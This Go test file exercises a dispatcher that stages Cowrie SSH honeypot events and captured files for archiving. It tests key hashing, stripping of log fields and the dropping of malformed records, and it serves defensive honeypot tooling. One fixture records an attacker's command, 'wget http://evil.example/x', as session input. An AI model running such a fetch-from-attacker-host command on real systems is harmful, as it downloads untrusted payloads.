package worker

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"trapsink/internal/config"
	"trapsink/internal/metrics"
	"trapsink/internal/model"

	json "github.com/goccy/go-json"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestDispatcher(t *testing.T) (*Dispatcher, config.Config, *metrics.Metrics) {
	t.Helper()
	cfg := config.Config{
		StageDir:   t.TempDir(),
		InstanceID: "test",
	}
	m := metrics.New()
	return NewDispatcher(cfg, m), cfg, m
}

func stagedFiles(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	names := make([]string, 0, len(entries))
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return names
}

func TestStageFileDownload(t *testing.T) {
	d, _, m := newTestDispatcher(t)

	job, ok := d.Stage(model.Record{
		"eventid": "cowrie.session.file_download",
		"shasum":  "aaaa",
		"outfile": "/tmp/x",
	})
	require.True(t, ok)
	assert.Equal(t, "downloads/aaaa", job.Key)
	assert.Equal(t, "/tmp/x", job.Path)
	assert.Equal(t, int64(1), m.RecordsFileDownloadTotal)
}

func TestStageFileUpload(t *testing.T) {
	d, _, _ := newTestDispatcher(t)

	job, ok := d.Stage(model.Record{
		"eventid": "cowrie.session.file_upload",
		"shasum":  "beef",
		"outfile": "/tmp/y",
	})
	require.True(t, ok)
	assert.Equal(t, "uploads/beef", job.Key)
	assert.Equal(t, "/tmp/y", job.Path)
}

func TestStageArtifactMissingFieldsDropped(t *testing.T) {
	d, cfg, _ := newTestDispatcher(t)

	_, ok := d.Stage(model.Record{"eventid": "cowrie.session.file_download"})
	assert.False(t, ok)
	assert.Empty(t, stagedFiles(t, cfg.StageDir))
}

func TestStageEventKeying(t *testing.T) {
	d, cfg, m := newTestDispatcher(t)

	rec := model.Record{
		"eventid": "cowrie.command.input",
		"session": "abc123",
		"input":   "wget http://evil.example/x",
	}

	// The key hashes the record exactly as received.
	raw, err := json.Marshal(rec)
	require.NoError(t, err)
	sum := sha256.Sum256(raw)
	wantKey := "events/abc123-" + hex.EncodeToString(sum[:])

	job, ok := d.Stage(rec)
	require.True(t, ok)
	assert.Equal(t, wantKey, job.Key)
	assert.Equal(t, int64(1), m.RecordsEventTotal)

	// Exactly one staged file, containing the record plus newline.
	files := stagedFiles(t, cfg.StageDir)
	require.Len(t, files, 1)
	assert.Equal(t, filepath.Join(cfg.StageDir, files[0]), job.Path)

	content, err := os.ReadFile(job.Path)
	require.NoError(t, err)
	assert.True(t, strings.HasSuffix(string(content), "\n"))

	var roundTrip model.Record
	require.NoError(t, json.Unmarshal(content, &roundTrip))
	assert.Equal(t, "abc123", roundTrip.Session())
}

func TestStageEventNoSessionDropped(t *testing.T) {
	d, cfg, m := newTestDispatcher(t)

	_, ok := d.Stage(model.Record{"eventid": "cowrie.direct-tcpip.request"})
	assert.False(t, ok)

	_, ok = d.Stage(model.Record{"eventid": "cowrie.direct-tcpip.request", "session": ""})
	assert.False(t, ok)

	assert.Equal(t, int64(2), m.RecordsDroppedNoSessionTotal)
	assert.Empty(t, stagedFiles(t, cfg.StageDir), "no staged file for unattributable events")
}

// Log-transport fields are stripped from the archived serialization but
// still participate in the content hash, so two events differing only in
// a timestamp marker archive identical payloads under distinct keys.
func TestStageEventStripsButHashesUnstripped(t *testing.T) {
	d, _, _ := newTestDispatcher(t)

	base := model.Record{
		"eventid":    "cowrie.login.failed",
		"session":    "abc123",
		"username":   "root",
		"log_format": "login attempt",
		"time":       "t1",
		"system":     "ssh",
	}
	other := model.Record{
		"eventid":    "cowrie.login.failed",
		"session":    "abc123",
		"username":   "root",
		"log_format": "login attempt",
		"time":       "t2",
		"system":     "ssh",
	}

	jobA, ok := d.Stage(base)
	require.True(t, ok)
	jobB, ok := d.Stage(other)
	require.True(t, ok)

	assert.NotEqual(t, jobA.Key, jobB.Key, "hash covers the unstripped record")

	contentA, err := os.ReadFile(jobA.Path)
	require.NoError(t, err)
	contentB, err := os.ReadFile(jobB.Path)
	require.NoError(t, err)
	assert.Equal(t, contentA, contentB, "archived payloads are identical after stripping")

	assert.NotContains(t, string(contentA), "log_format")
	assert.NotContains(t, string(contentA), `"time"`)
	assert.NotContains(t, string(contentA), `"system"`)
	assert.Contains(t, string(contentA), `"username":"root"`)
}

func TestStageEventUnserializableDropped(t *testing.T) {
	d, cfg, m := newTestDispatcher(t)

	_, ok := d.Stage(model.Record{
		"eventid": "cowrie.weird",
		"session": "abc123",
		"payload": make(chan int),
	})
	assert.False(t, ok)
	assert.Equal(t, int64(1), m.RecordsSerializeErrorsTotal)
	assert.Empty(t, stagedFiles(t, cfg.StageDir))
}
